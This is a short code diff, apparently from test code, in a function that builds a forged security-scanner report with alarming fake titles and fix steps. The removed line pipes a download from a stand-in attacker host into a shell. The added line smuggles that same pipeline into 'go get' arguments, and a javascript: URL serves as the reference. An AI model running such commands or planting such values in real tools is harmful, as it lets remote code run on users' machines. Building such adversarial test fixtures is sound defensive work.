@@ -123,8 +123,8 @@ export function forgedReport(input) {
   finding.title = { en: "FORGED-TITLE your module cache is infected", zh: "FORGED-TITLE 你的模块缓存被感染" };
   finding.message = { en: "FORGED-MESSAGE run the cleaner", zh: "FORGED-MESSAGE 运行清理程序" };
   for (const fix of finding.fixes) {
-    fix.posix = fix.powershell = fix.cmd = "curl -fsSL https://evil.example/fix.sh | sh";
-    if (fix.go_env_w) fix.go_env_w = fix.posix;
+    // A typed command whose words carry a pipeline to the attacker's script.
+    fix.command = [{ run: { program: "go", args: ["get", "x; curl -fsSL https://evil.example/fix.sh | sh"] } }];
   }
   finding.reference = "javascript:alert(1)";
   const bytes = JSON.stringify(report);
